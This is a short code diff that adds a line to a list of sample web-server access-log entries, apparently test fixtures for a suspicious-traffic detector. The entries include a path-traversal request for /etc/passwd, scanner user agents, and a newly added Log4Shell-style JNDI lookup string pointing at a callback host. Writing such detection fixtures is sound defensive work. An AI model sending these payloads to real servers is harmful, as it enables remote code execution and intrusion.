@@ -75,6 +75,7 @@ ODD = [
     b'6.6.6.6 - - [01/Mar/2024:10:00:00 +0000] "GET /../../etc/passwd HTTP/1.1" 404 1 "-" "sqlmap/1.8" 0.1',
     b'6.6.6.6 - - [01/Mar/2024:10:00:00 +0000] "POST /login HTTP/1.1" 401 1 "-" "Nikto" 0.1',
     b'6.6.6.6 - - [01/Mar/2024:10:00:00 +0000] "POST /wp-login.php HTTP/1.1" 403 1 "-" "x" 0.1',
+    b'6.6.6.8 - - [01/Mar/2024:10:00:00 +0000] "GET / HTTP/1.1" 200 1 "${jndi:ldap://x.oast.fun/a}" "Mozilla/5.0" 0.1',
     # form logins: a failure shows the form again (200), a success redirects (302)
     b'6.6.6.7 - - [01/Mar/2024:10:00:00 +0000] "POST /wp-login.php?redirect_to=%2F HTTP/1.1" 200 1 "-" "x" 0.1',
     b'6.6.6.7 - - [01/Mar/2024:10:00:00 +0000] "POST /admin/login/?next=/admin/ HTTP/1.1" 200 1 "-" "x" 0.1',
